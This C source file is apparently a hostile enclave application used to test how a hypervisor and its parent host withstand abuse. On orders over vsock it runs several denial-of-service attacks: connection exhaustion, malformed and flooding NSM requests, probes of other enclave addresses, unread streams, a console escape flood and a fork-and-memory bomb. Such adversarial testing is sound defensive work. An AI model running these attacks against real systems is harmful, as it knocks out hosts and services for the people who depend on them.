/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An application that means harm: it does to its hypervisor and its parent what a program without
 * manners can do through the kernel's own interfaces.
 *
 * It connects to the parent's port 6000 and takes one order a line there; each attack goes on in
 * processes of its own while the next ones start, so that in the end all of them run at once. The
 * answer to each order is "ok" or "no".
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nsm.h>

#define PARENT     3u
#define HYPERVISOR 0u
#define PORT_ORDER 6000u
#define PORT_TALK  6001u /* the host talks there, and we do not listen */
#define PORT_STUCK 6002u /* nobody reads there */
#define PORT_NSM   0x4e534du
#define PORT_EXIT  0x45584954u

#define CONNECTIONS 3000 /* about three times what one guest may have */
#define STUCK       64
#define NSM_CLIENTS 8
#define CONNECT_MS  3000
#define BOMB_STEP   (1 << 20)
#define NOFILE      8192
#define LEFT        7
#define ORDER_MAX   64

static int vsock_start(uint32_t cid, uint32_t port)
{
	const struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (fd >= 0 && connect(fd, (const struct sockaddr *)&to, sizeof(to)) != 0 &&
		errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

static bool is_connected(int fd, int wait_ms)
{
	struct pollfd p = {.fd = fd, .events = POLLOUT};
	socklen_t len = sizeof(int);
	int failed = 1;

	return fd >= 0 && poll(&p, 1, wait_ms) == 1 &&
	       getsockopt(fd, SOL_SOCKET, SO_ERROR, &failed, &len) == 0 && failed == 0;
}

static int vsock_connect(uint32_t cid, uint32_t port)
{
	int fd = vsock_start(cid, port);

	if (fd >= 0 && !is_connected(fd, CONNECT_MS)) {
		close(fd);
		fd = -1;
	}
	return fd;
}

/* Whom the kernel of the guest ends first when its memory is gone. */
static void set_oom_score(const char *score)
{
	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);

	(void)!write(fd, score, strlen(score));
	close(fd);
}

/* Starts an attack in a process of its own. */
static void attack(void (*how)(void))
{
	if (fork() == 0) {
		signal(SIGPIPE, SIG_IGN);
		set_oom_score("1000");
		how();
		for (;;) {
			pause();
		}
	}
}

/* Thousands of connections, held, on none of which a byte is ever read. */
static void open_many(void)
{
	static int fds[CONNECTIONS];

	for (int i = 0; i < CONNECTIONS; i++) {
		fds[i] = vsock_start(PARENT, PORT_TALK);
	}
	for (int i = 0; i < CONNECTIONS; i++) {
		if (!is_connected(fds[i], 0) && fds[i] >= 0) {
			close(fds[i]); /* and once more, for the rate limit */
			fds[i] = vsock_start(PARENT, PORT_TALK);
		}
	}
}

static void put_le32(uint8_t *at, uint32_t v)
{
	for (int i = 0; i < 4; i++) {
		at[i] = (uint8_t)(v >> (8 * i));
	}
}

static void send_frame(int fd, uint32_t announced, const void *body, size_t n)
{
	uint8_t head[4];

	put_le32(head, announced);
	(void)!send(fd, head, sizeof(head), MSG_NOSIGNAL);
	(void)!send(fd, body, n, MSG_NOSIGNAL);
}

static void nsm_garbage(int fd)
{
	uint8_t garbage[4096];

	for (size_t i = 0; i < sizeof(garbage); i++) {
		garbage[i] = (uint8_t)rand();
	}
	put_le32(garbage, (uint32_t)rand() % 4096);
	(void)!send(fd, garbage, sizeof(garbage), MSG_NOSIGNAL);
}

/* As many requests for documents as the stream takes, and no answer read. */
static void nsm_flood(int fd)
{
	static const char attestation[] = "\xa1\x6b"
					  "Attestation"
					  "\xa0";
	static uint8_t all[1 << 16];
	size_t frame = 4 + sizeof(attestation) - 1;
	size_t n = sizeof(all) / frame * frame;

	for (size_t at = 0; at < n; at += frame) {
		put_le32(all + at, (uint32_t)(frame - 4));
		memcpy(all + at + 4, attestation, frame - 4);
	}
	for (int i = 0; i < 64; i++) {
		static uint8_t answer[1 << 16];
		struct pollfd p = {.fd = fd, .events = POLLOUT | POLLIN};

		if (poll(&p, 1, 200) <= 0 || send(fd, all, n, MSG_NOSIGNAL) <= 0) {
			break;
		}
		if (i % 2 == 1) {
			(void)!recv(fd, answer, sizeof(answer), MSG_DONTWAIT);
		}
	}
}

/* Each of these, for ever, by several processes at once. */
static void nsm_client(void)
{
	srand((unsigned)getpid());
	for (unsigned i = 0;; i++) {
		static const struct timespec nap = {.tv_nsec = 100000000};
		int fd = vsock_connect(HYPERVISOR, i % 16 == 15 ? PORT_EXIT + 1 : PORT_NSM);

		if (fd < 0) {
			nanosleep(&nap, NULL);
			continue;
		}
		switch (i % 5) {
		case 0:
			nsm_garbage(fd);
			break;
		case 1:
			send_frame(fd, UINT32_MAX, "x", 1); /* more than there can be */
			break;
		case 2:
			send_frame(fd, 4096, "half", 4); /* the rest never comes */
			nanosleep(&nap, NULL);
			break;
		case 3:
			send_frame(fd, 0, "", 0);
			break;
		default:
			nsm_flood(fd);
			break;
		}
		close(fd);
	}
}

/* Addresses that are no business of ours: other enclaves, ourselves, nobody. */
static void knock(void)
{
	static const uint32_t cids[] = {1, 2, 4, 5, 16, 17, 18, 0x7fffffff, UINT32_MAX - 1};

	for (unsigned i = 0;; i++) {
		int fd = vsock_connect(cids[i % (sizeof(cids) / sizeof(cids[0]))], 5000);

		if (fd >= 0) {
			close(fd);
		}
	}
}

static void flood_nsm(void)
{
	for (int i = 0; i < NSM_CLIENTS; i++) {
		attack(nsm_client);
	}
	knock();
}

/* All that streams take on whose other end nobody reads. */
static void flood_stuck(void)
{
	static uint8_t bytes[1 << 16];
	struct pollfd fds[STUCK];

	for (int i = 0; i < STUCK; i++) {
		fds[i] = (struct pollfd){vsock_connect(PARENT, PORT_STUCK), POLLOUT, 0};
	}
	while (poll(fds, STUCK, -1) > 0) {
		for (int i = 0; i < STUCK; i++) {
			if (fds[i].revents & POLLOUT) {
				(void)!send(fds[i].fd, bytes, sizeof(bytes), MSG_NOSIGNAL);
			}
			if (fds[i].revents & (POLLHUP | POLLERR)) {
				fds[i].fd = -1;
			}
		}
	}
}

static void flood_console(void)
{
	char line[1024];

	memset(line, 0x1b, sizeof(line)); /* escapes, for whoever's terminal shows it */
	for (;;) {
		(void)!write(STDOUT_FILENO, line, sizeof(line));
	}
}

/* Forks and takes memory until there is none, and goes on. */
static void bomb(void)
{
	for (;;) {
		uint8_t *p = mmap(NULL, BOMB_STEP, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		(void)fork();
		if (p != MAP_FAILED) {
			memset(p, 0xa5, BOMB_STEP);
		}
	}
}

/* No attack: whether this guest's own /dev/nsm still works. */
#define RANDOM_TRIES 20

static bool has_nsm(void)
{
	static const struct timespec nap = {.tv_nsec = 50000000};
	int32_t nsm = nsm_lib_init();
	bool ok = nsm >= 0;

	for (int i = 0; ok && i < RANDOM_TRIES; i++) {
		uint8_t bytes[256];
		uintptr_t n = sizeof(bytes);

		ok = nsm_get_random(nsm, bytes, &n) == ERROR_CODE_SUCCESS && n == sizeof(bytes);
		nanosleep(&nap, NULL);
	}
	nsm_lib_exit(nsm);
	return ok;
}

static const struct {
	const char *name;
	void (*how)(void);
} attacks[] = {
	{"connections", open_many},
	{"nsm", flood_nsm},
	{"stuck", flood_stuck},
	{"console", flood_console},
	{"forks", bomb},
};

static bool obey(const char *order)
{
	if (strcmp(order, "random") == 0) {
		return has_nsm();
	}
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(order, attacks[i].name) == 0) {
			attack(attacks[i].how);
			return true;
		}
	}
	return false;
}

int main(void)
{
	const struct rlimit files = {NOFILE, NOFILE};
	char order[ORDER_MAX];
	FILE *in;
	int fd;

	(void)setrlimit(RLIMIT_NOFILE, &files);
	set_oom_score("-1000");
	do {
		fd = vsock_connect(PARENT, PORT_ORDER);
	} while (fd < 0);
	(void)fcntl(fd, F_SETFL, 0);
	in = fdopen(fd, "r");
	while (in != NULL && fgets(order, sizeof(order), in) != NULL) {
		order[strcspn(order, "\n")] = '\0';
		if (strcmp(order, "leave") == 0) {
			_exit(LEFT); /* and all that was started goes on */
		}
		(void)!send(fd, obey(order) ? "ok\n" : "no\n", 3, MSG_NOSIGNAL);
	}
	/* Without its orders it stays: only a termination ends it. */
	for (;;) {
		pause();
	}
}
